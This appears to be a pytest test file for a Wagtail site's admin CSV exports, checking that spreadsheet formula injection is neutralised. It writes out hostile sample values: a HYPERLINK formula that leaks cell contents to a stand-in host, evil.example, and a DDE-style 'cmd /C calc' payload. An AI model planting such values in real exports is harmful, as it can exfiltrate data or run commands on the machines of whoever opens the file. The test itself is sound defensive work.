"""CSV exports of the admin never hand a spreadsheet program a formula to run."""

import csv
import datetime
import io

import pytest
from wagtail.log_actions import log

from core.files.spreadsheets import neutralise_formula
from home import roles
from tests.factories import UserFactory
from tests.policy.factories import make_index, make_policy

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the register")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Riverside = best", "Riverside = best"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise_formula_follows_the_owasp_rule(value, expected):
    assert neutralise_formula(value) == expected


def test_csv_injection_in_site_history_export_is_neutralised(client, home_page):
    """Previously Reports → Site history exported =HYPERLINK(…) titles as live formulas."""
    page = home_page.add_child(instance=type(home_page)(title=HYPERLINK, slug="hyperlink"))
    log(instance=page, action="wagtail.create")
    admin = UserFactory(username="site-admin", is_superuser=True, is_staff=True, roles=[])
    client.force_login(admin)

    rows = csv_rows(client.get("/admin/reports/site-history/", {"export": "csv"}))

    labels = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_injection_in_policy_review_report_export_is_neutralised(client, home_page, central_team):
    """The policy reports share the same export: titles and the lead's name are neutralised."""
    index = make_index(home_page)
    make_policy(
        index,
        title="-1+1 Attendance Policy",
        slug="attendance",
        lead_member_of_staff="@SUM(1+1)*cmd|' /C calc'!A0",
        next_review_due=datetime.date.today() - datetime.timedelta(days=1),
    )
    editor = UserFactory(username="editor", school=central_team, roles=[roles.STAFF, roles.POLICY_EDITORS])
    client.force_login(editor)

    rows = csv_rows(client.get("/admin/reports/policy-reviews/", {"export": "csv"}))

    assert rows[1][0] == "'-1+1 Attendance Policy"
    assert rows[1][4] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_xlsx_export_still_works(client, home_page):
    admin = UserFactory(username="site-admin", is_superuser=True, is_staff=True, roles=[])
    client.force_login(admin)
    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})
    assert response.status_code == 200
